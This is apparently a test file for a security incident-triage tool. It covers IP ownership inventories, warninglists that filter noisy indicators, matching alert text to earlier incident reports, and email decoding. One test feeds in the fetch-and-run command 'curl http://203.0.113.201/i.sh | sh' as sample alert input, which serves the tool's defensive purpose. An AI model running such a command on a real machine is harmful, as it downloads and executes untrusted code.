import { describe, expect, it } from 'vitest';
import type { IncidentInput } from '../../../schemas/incident.ts';
import { getWords } from '../../../src/core/i18n/words.ts';
import { readInventory } from '../../../src/core/recall/inventory.ts';
import { isMail, readMail } from '../../../src/core/recall/mail.ts';
import { tellReleased } from '../../../src/core/recall/tell.ts';
import { readWarninglist } from '../../../src/core/recall/warninglist.ts';
import { ask, openSources, precedentsOf } from './sample-sources.ts';
import { buildReport } from '../../builders.ts';

describe('the ledger of addresses', () => {
  const entry = { addr: '203.0.113.45', from: '2022-10-22', until: '2024-01-01', os: 'linux' };
  it.each([
    ['a YAML list', '- { addr: 203.0.113.45, held_from: 2022-10-22, held_until: 2024-01-01, os: Ubuntu }'],
    [
      'a list below a key',
      'addresses:\n  - addr: 203.0.113.45\n    held_from: 2022-10-22\n    held_until: 2024-01-01\n    os: linux',
    ],
    ['addresses as keys', '203.0.113.45: { held_from: 2022-10-22, held_until: 2024-01-01, os: linux }'],
    ['CSV', 'ip,held_from,held_until,os\r\n203.0.113.45,2022-10-22,2024-01-01,CentOS 7\r\n'],
    [
      'CSV in Chinese with a mark ahead',
      '\uFEFF公网IP,持有起始日期,释放日期,操作系统\n203.0.113.45,2022/10/22,2024年1月1日,麒麟\n',
    ],
  ])('is read as %s', (_what, text) => {
    expect(readInventory(text)).toEqual({ holdings: [entry], problems: [] });
  });

  it.each([
    ['', 'It is neither a YAML list of entries nor a CSV table with a row of names.'],
    [
      'ip,held_from\n10.1,2022\n',
      'Entry 1: `10.1` is no address. Write one such as 203.0.113.7, 2001:db8::7 or 203.0.113.0/24.',
    ],
    ['ip,held_from\n203.0.113.45,once\n', 'Entry 1: `once` is no date. Write one such as 2022-10-22.'],
    ['- { name: web }', 'Entry 1: it has no address. Write one as `addr`.'],
  ])('tells what is wrong with %j', (text, problem) => {
    expect(readInventory(text)).toEqual({ holdings: [], problems: [problem] });
  });

  it('names the first of many entries that are wrong, and counts the others', () => {
    const { holdings, problems } = readInventory(`ip,name\n${'x,y\n'.repeat(1000)}203.0.113.45,z\n`);
    expect(holdings).toEqual([{ addr: '203.0.113.45', name: 'z' }]);
    expect(problems).toHaveLength(51);
    expect(problems.at(-1)).toBe('950 more entries cannot be read either.');
  });

  it('refuses YAML that would take minutes', () => {
    expect(readInventory('- { addr: 203.0.113.45 }\n'.repeat(210_000))).toEqual({
      holdings: [],
      problems: ['It is too long for YAML. Write a CSV table with a row of names.'],
    });
  });

  it('expires what is said of an address that was given back', async () => {
    const sources = openSources([]);
    const answer = await ask(
      '告警时间 2026-11-30，203.0.113.45 恶意，首次发现 2024-06-01，最后证据 2026-11-20',
      sources,
      {
        inventory: [{ addr: '203.0.113.45', from: '2022-10-22', until: '2024-01-01' }],
        count: ['203.0.113.45'],
      },
    );
    expect(answer.compared.contradictions).toMatchObject([
      { kind: 'ownership-window', certainty: 'certain', details: { side: 'after', heldUntil: '2024-01-01' } },
    ]);
  });
});

it.each([
  ['2024-03-01', 'given back on 2024-01-01'],
  // It was ours when the alert fired.
  ['2023-03-01', undefined],
])('an alert of %s is told that its address was %s', async (day, said) => {
  const answer = await ask(`告警时间 ${day}，203.0.113.45 恶意`, openSources([]), {
    inventory: [{ addr: '203.0.113.45', from: '2022-10-22', until: '2024-01-01' }],
    count: ['203.0.113.45'],
  });
  const told = tellReleased(answer, { words: getWords('en'), language: 'en' });
  expect(told === undefined ? undefined : /given back on \S+(?=:)/.exec(told)?.[0]).toBe(said);
});

describe('a warninglist', () => {
  it.each([
    ['{}', 'It has no `list`.'],
    ['[', 'It is not JSON.'],
    ['{"type":"xyz","list":[]}', '`xyz` is no type of a list.'],
  ])('that is %s is told', (text, message) => {
    expect(readWarninglist(text)).toMatchObject({ message });
  });

  it.each<[string, string, string[]]>([
    ['cidr', '45.83.64.20', ['45.83.64.0/24']],
    ['cidr', '45.83.64.20', ['45.83.64.20']],
    ['cidr', '45.83.64.20', ['::ffff:45.83.64.20']],
    ['cidr', '2a01:db8:1::5', ['2a01:db8:1::/48']],
    ['hostname', 'https://a.cdn.kuro-pay.com/x', ['.kuro-pay.com']],
    ['hostname', 'cdn.kuro-pay.com', ['kuro-pay.com']],
    ['string', 'kuro.exe', ['KURO.exe']],
    ['substring', 'cdn.kuro-pay.com', ['kuro-']],
    ['regex', 'cdn.kuro-pay.com', ['/KURO-\\w+\\./i']],
  ])('of the type %s sets %s aside', async (type, value, list) => {
    const noise = readWarninglist(JSON.stringify({ name: 'Ours', type, list: [...list, '', 7] }));
    if ('message' in noise) throw new Error(noise.message);
    const { values } = await ask(`seen: ${value}`, openSources([], { noise: [noise] }));
    expect(values[0]).toMatchObject({ standing: 'noise', noise: { kind: 'list', list: 'Ours' } });
  });

  it.each<[string, string, string[]]>([
    ['cidr', '45.83.65.20', ['45.83.64.0/24']],
    ['hostname', 'notkuro-pay.com', ['kuro-pay.com']],
    ['string', 'kuro.exe.exe', ['kuro.exe']],
    ['regex', 'cdn.kuro-pay.com', ['/(/']],
  ])('of the type %s leaves %s', async (type, value, list) => {
    const noise = readWarninglist(JSON.stringify({ name: 'Ours', type, list }));
    if ('message' in noise) throw new Error(noise.message);
    const { values } = await ask(`seen: ${value}`, openSources([], { noise: [noise] }));
    expect(values[0]?.standing).toBe('counts');
  });
});

describe('a file of every system', () => {
  it.each([
    ['/bin/sh', 'noise'],
    ['C:\\Windows\\System32\\rundll32.exe', 'noise'],
    ['winword.exe', 'noise'],
    // One of the names, where no such program lies.
    ['C:\\Users\\Public\\svchost.exe', 'counts'],
  ])('%s is %s', async (value, standing) => {
    const { values } = await ask(`process: ${value}`, openSources([]));
    expect(values[0]).toMatchObject({ standing });
  });

  it('counts where a report lists it', async () => {
    const listing = buildReport({ incident: { indicators: [{ id: 'I1', type: 'file', value: '/bin/sh' }] } });
    const { values } = await ask('changed: /bin/sh', openSources([listing]));
    expect(values[0]).toMatchObject({ standing: 'counts' });
  });
});

it.each([
  ['{"generatorURL":"https://prom.kuro-pay.com/graph"}', 'noise'],
  ['attack=C2 ref="http://www.kuro-pay.com/ids/1"', 'noise'],
  ['{"link":"http://www.kuro-pay.com/ids/1"}', 'counts'],
])('the URL of %s is %s', async (paste, standing) => {
  expect((await ask(paste, openSources([]))).values[0]).toMatchObject({ standing });
});

it.each([
  ['mail from ceo.office@gmail.com', 'strong'],
  ['mail from somebody.else@gmail.com', 'weak'],
  ['query for gmail.com', 'weak'],
  ['query for files.kuro-pay.com', 'likely'],
  ['GET https://files.kuro-pay.com/b.sh', 'likely'],
  ['GET https://files.kuro-pay.com/a.sh', 'strong'],
])('the host of what a report lists is not that: %s is %s', async (paste, match) => {
  const indicators: IncidentInput['indicators'] = [
    { id: 'I1', type: 'email-addr', value: 'ceo.office@gmail.com' },
    { id: 'I2', type: 'url', value: 'https://files.kuro-pay.com/a.sh' },
  ];
  const report = buildReport({ incident: { indicators } });
  expect(precedentsOf(await ask(paste, openSources([report])))).toEqual([`${report.id} ${match}`]);
});

it('a URL that a text quotes leads to the report that lists its host', async () => {
  const report = buildReport({
    incident: { indicators: [{ id: 'I1', type: 'ipv4-addr', value: '203.0.113.201' }] },
    intro: 'It ran `curl http://203.0.113.201/i.sh`.',
  });
  const answer = await ask('curl http://203.0.113.201/i.sh | sh', openSources([report]));
  expect(answer.values[0]?.standing).toBe('counts');
  expect(precedentsOf(answer)).toEqual([`${report.id} strong`]);
});

describe('a value that is in many reports', () => {
  const reports = Array.from({ length: 4 }, (_, at) =>
    buildReport({
      id: `INC-2024-000${at + 1}`,
      incident: { indicators: [{ id: 'I1', type: 'domain-name', value: 'cdn.kuro-pay.com' }] },
    }),
  );

  it('is set aside from the number of the settings on, and counted when asked for', async () => {
    const few = openSources(reports, { tooMany: 4 });
    const many = openSources(reports, { tooMany: 3 });
    expect(precedentsOf(await ask('cdn.kuro-pay.com', few))).toHaveLength(4);
    const answer = await ask('cdn.kuro-pay.com', many);
    expect(answer.values[0]?.noise).toEqual({ kind: 'everywhere', reports: 4 });
    expect(answer.precedents).toEqual([]);
    expect(
      precedentsOf(await ask('cdn.kuro-pay.com', many, { count: ['cdn[.]kuro-pay[.]com'] })),
    ).toHaveLength(4);
    expect((await ask('cdn.kuro-pay.com', few, { ignore: ['cdn.kuro-pay.com'] })).precedents).toEqual([]);
  });
});

describe('a mail', () => {
  const mail = (body: string, more = ''): string =>
    `From: soc@example.org\r\nTo: team@example.org\r\nSubject: =?utf-8?B?5ZGK6K2m?=\r\n${more}\r\n${body}`;

  it.each([
    [mail('x'), true],
    ['From: a\nthis is no head', false],
    ['Subject: only one line of it\n\ntext', false],
    ['{"from":"x"}', false],
  ])('is known by its head: %j', (text, isOne) => {
    expect(isMail(text)).toBe(isOne);
  });

  it('says its subject, its text and what is attached, decoded', async () => {
    const bytes = Buffer.concat([
      Buffer.from(
        mail(
          '',
          'MIME-Version: 1.0\r\nContent-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: quoted-printable\r\n',
        ),
      ),
      Buffer.from('=B5=D8=D6=B7 203.0.113.45=\r\n:8443'),
    ]);
    const text = await readMail(bytes);
    expect(text).toContain('告警');
    expect(text).toContain('地址 203.0.113.45:8443');
  });
});
